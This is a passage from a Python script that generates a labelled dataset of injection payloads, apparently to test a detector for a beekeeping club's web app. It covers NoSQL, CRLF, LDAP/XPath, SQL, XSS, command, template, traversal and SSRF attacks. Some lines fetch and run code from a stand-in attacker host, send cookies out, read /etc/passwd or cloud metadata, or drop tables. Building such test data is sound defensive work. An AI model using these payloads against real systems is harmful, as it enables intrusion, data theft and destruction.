node-serialize-iife|||{"rce":"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"}
""")

LIT["nosqli"] = block(r"""
json-ne-null|||{"$ne": null}
json-gt-empty|||{"$gt": ""}
json-regex-prefix|||{"$regex": "^a"}
json-where-sleep|||{"$where": "sleep(5000) || true"}
json-where-password-match|||{"$where":"this.password.match(/^a/)"}
query-ne-login|||username[$ne]=x&password[$ne]=x
query-regex-any|||hive[$regex]=.*
where-js-string-or|||H3' || '1'=='1
where-js-return-true|||queen'; return true; var x='
json-or-empty|||{"$or":[{},{"a":"a"}]}
json-expr-function-sleep|||{"$expr":{"$function":{"body":"function(){sleep(3000);return true}","args":[],"lang":"js"}}}
json-aggregation-lookup|||[{"$lookup":{"from":"members","localField":"x","foreignField":"x","as":"m"}}]
json-in-admins|||{"$in":["admin","root"]}
json-nin-empty|||{"$nin":[]}
json-exists|||{"$exists":true}
query-regex-password|||password[$regex]=^p.*
couchdb-selector-gt-null|||{"selector":{"_id":{"$gt":null}}}
string-built-json-where|||Hive 4", "$where": "sleep(2000) || true
mongo-shell-drop|||'; db.members.drop(); var x='
json-token-regex-any|||{"token":{"$regex":"^"}}
query-ne-plain|||[$ne]=1
json-queen-ne-with-note|||{"queen":{"$ne":"x"},"note":"inspection 12/06"}
query-gt-hive-id|||hive_id[$gt]=0
json-where-dos-loop|||{"$where":"while(true){}"}
json-type-string-bypass|||{"email":{"$type":2},"password":{"$type":2}}
""")

LIT["crlf"] = block(r"""
log-forging-lf|||Hive 4 checked¶2024-06-01 12:00:00 INFO user=admin action=login result=success
log-forging+urlencode|||swarm collected%0d%0a2024-06-01T10:00:00Z WARN admin password reset for bob
header-content-disposition-setcookie|||queen.jpg%0d%0aSet-Cookie:%20session=attacker
redirect-location-injection|||https://club.example/ok%0d%0aLocation:%20https://attacker.example/
response-splitting-full|||en%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>
unicode-crlf-setcookie|||%E5%98%8A%E5%98%8DSet-Cookie:%20x=1
mail-bcc-lf-encoded|||bob@example.com%0aBcc:%20everyone@attacker.example
mail-subject-bcc-raw|||Swarm report␍¶Bcc: list@attacker.example␍¶
mail-cc-subject-raw|||bob@example.com¶Cc: victim@example.org¶Subject: Free honey
header-xff-injection|||%0d%0aX-Forwarded-For:%20127.0.0.1
setcookie+doubleurlencode|||lang%250d%250aSet-Cookie:%20a=b
content-type-body-injection|||%0aContent-Type:%20text/html%0a%0a<svg onload=alert(1)>
raw-body-injection|||hive3␍¶␍¶<html>fake login page</html>
json-log-forging|||queen ok","level":"ADMIN","msg":"granted
ansi-escape-log|||Hive 7 ok␛[2J␛[1;31mALERT: all hives dead, login at attacker.example
header-folding-setcookie|||theme%0d%0a%09Set-Cookie:%20x=1
apache-log-forging|||Hive 3 note%0D%0A[Sat Jun 01 10:00:00 2024] [error] [client 203.0.113.5] File does not exist: /admin
mail-body-injection|||Swarm on Mill Lane%0ATo: all-members@example.org%0A%0AClick http://attacker.example/login
smtp-smuggling|||Swarm call␍¶.␍¶MAIL FROM:<x@attacker.example>␍¶RCPT TO:<all@example.org>␍¶DATA␍¶
refresh-header-raw|||/dashboard␍¶Refresh: 0; url=https://attacker.example/
cookie-value-setcookie|||dark%0d%0aSet-Cookie:%20role=admin;%20Path=/
log-forging-cr-only|||varroa 4/day␍2024-06-01 09:00:00 INFO treatment skipped by admin
header-location-lowercase|||%0d%0alocation:%20//attacker.example
csp-header-disable|||en%0d%0aContent-Security-Policy:%20default-src%20*%20'unsafe-inline'
cache-poison-header|||hive%0d%0aX-Cache-Key:%20evil%0d%0aCache-Control:%20public,%20max-age=99999
syslog-forging|||H9 weight 41kg¶<34>Jun  1 10:00:00 hivehost sshd[99]: Accepted password for root from 203.0.113.5
mail-from-header|||Bee Club%0d%0aFrom:%20security@example.org%0d%0aReply-To:%20x@attacker.example
""")

LIT["ldap-xpath"] = block(r"""
ldap-wildcard-always-true|||*)(uid=*))(|(uid=*
ldap-and-true|||admin)(&)
ldap-or-objectclass|||*)(|(objectClass=*)
ldap-password-presence|||bob)(|(userPassword=*))
ldap-attr-disclosure|||*)(userPassword=*)
ldap-group-injection|||beekeeper*)(memberOf=cn=admins,ou=groups,dc=club,dc=example
ldap+urlencode|||%2a%29%28%7c%28cn%3d%2a
ldap-blind-prefix|||jo)(userPassword=a*
xpath-string-or|||' or '1'='1
xpath-triple-or|||' or 1=1 or ''='
xpath-union-nodes|||'] | //member/password | //x['
xpath-name-probe|||x' or name()='username' or 'x'='y
xpath-length-blind|||' and string-length(//member[1]/password)>5 and '1'='1
xpath-substring-blind|||' and substring(//user[name='admin']/pass,1,1)='a
xpath-count-nodes|||' or count(/child::node())>0 or '
xpath-paren-or|||') or ('1'='1
xpath2-doc-exfil|||' or doc('http://attacker.example/x')/a or '
xpath-contains-breeder|||' or contains(//queen/@breeder,'a') or '
""")

# ---- template pools (hand-written) ----
PREFIXES = {
    "sqli": ["Hive 4 inspection", "Queen 2024 blue", "OSR 23.4 kg", "swarm Mill Lane", "varroa 3/day",
             "Top Field H3", "nuc for sale"],
    "xss": ["Hive 4: queen seen ", "Lovely heather honey! ", "Nuc for sale £180 ", "Swarm on Elm Road ",
            "Mite drop 6/day ", "Bio: hobby beekeeper "],
    "cmdi": ["hive3.csv", "scale-02", "H7", "harvest_2024.csv", "queen_photo.jpg", "TOP-03"],
    "traversal": ["photos/", "exports/2024/", "labels/", "uploads/hive3/", "attachments/"],
    "code": ["Label for ", "Hive ", "Swarm note: ", "Jar label: ", "Queen ", "Inspection "],
    "nosqli": [""],
    "crlf": ["Hive 4 checked", "swarm collected", "queen.jpg", "varroa 4/day", "harvest 23kg"],
    "ldap-xpath": ["jo", "bob", "beekeeper", "siobhan", "h3"],
}
CORES = {
    "sqli": [("note-boolean", "' OR '1'='1"), ("note-union-select", "' UNION SELECT email,password FROM members--"),
             ("note-time-mysql-sleep", "' AND SLEEP(5)-- -"), ("note-stacked-drop", "'; DROP TABLE hives;--"),
             ("note-time-pg-stacked", "'; SELECT pg_sleep(7)--")],
    "xss": [("note-img-onerror", "<img src=x onerror=alert(1)>"), ("note-svg-onload", "<svg onload=alert(document.cookie)>"),
            ("note-script-tag", "<script>fetch('//attacker.example/?'+document.cookie)</script>"),
            ("note-iframe-js", "<iframe src=javascript:alert(1)>")],
    "cmdi": [("semicolon-id", ";id"), ("pipe-cat-passwd", "|cat /etc/passwd"), ("and-curl-sh", "&&curl attacker.example|sh"),
             ("subshell-whoami", "$(whoami)"), ("backtick-uname", "`uname -a`")],
    "traversal": [("dotdot-passwd", "../../../../etc/passwd"), ("dotdot-encoded", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
                  ("dotdot-windows", "..\\..\\..\\..\\windows\\win.ini")],
    "code": [("jinja2-popen", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
             ("log4shell-ldap", "${jndi:ldap://attacker.example/h}"),
             ("freemarker-execute", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}"),
             ("spel-runtime", "#{T(java.lang.Runtime).getRuntime().exec('id')}")],
    "nosqli": [("json-ne-empty-string", '{"$ne": ""}'), ("json-regex-dot", '{"$regex": "."}')],
    "crlf": [("log-forging+urlencode", "%0a2024-06-01 00:00:00 INFO admin logged in"),
             ("setcookie+urlencode", "%0d%0aSet-Cookie:%20sid=attacker")],
    "ldap-xpath": [("ldap-wildcard-or", ")(|(uid=*)"), ("ldap-password-presence", ")(userPassword=*)")],
}
SSRF_HOSTS = [("loopback", "127.0.0.1"), ("metadata", "169.254.169.254"), ("decimal-ip", "2130706433"),
              ("rfc1918", "10.0.0.12"), ("ipv6-loopback", "[::1]"), ("internal-name", "admin.internal")]
SSRF_PATHS = ["/latest/meta-data/", "/admin", ":8080/actuator/env", ":6379/", "/server-status"]

TARGETS = {"sqli": 80, "xss": 78, "cmdi": 70, "traversal": 50, "ssrf": 50, "code": 80, "nosqli": 27,
           "crlf": 30, "ldap-xpath": 20}
URLENC = {"sqli", "xss", "code"}


def templated(cat, r):
    if cat == "ssrf":
        kind, host = r.choice(SSRF_HOSTS)
        return "fetch-url-" + kind, "http://" + host + r.choice(SSRF_PATHS)
    cls, core = r.choice(CORES[cat])
    val = r.choice(PREFIXES[cat]) + core
    if cat in URLENC and r.random() < 0.3:
        return cls + "+prefix+urlencode", quote(val, safe="")
    return cls + "+prefix", val


def main():
    r = random.Random(SEED)
    rows = []
    seen = set()
    n = 0
    for cat, target in TARGETS.items():
        items = list(LIT[cat])
        for _, v in items:
            assert v not in seen, v
            seen.add(v)
        while len(items) < target:
            cls, v = templated(cat, r)
            if v not in seen:
                seen.add(v)
                items.append((cls, v))
        for cls, v in items:
            n += 1
            rows.append({"id": "%s-%05d" % (PREFIX, n), "category": cat, "class": cls,
                         "label": "attack", "value": v})
    out = os.path.join(os.path.dirname(os.path.abspath(__file__)), "attacks.jsonl")
    with open(out, "w", encoding="utf-8", newline="\n") as fh:
        for row in rows:
            fh.write(json.dumps(row, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
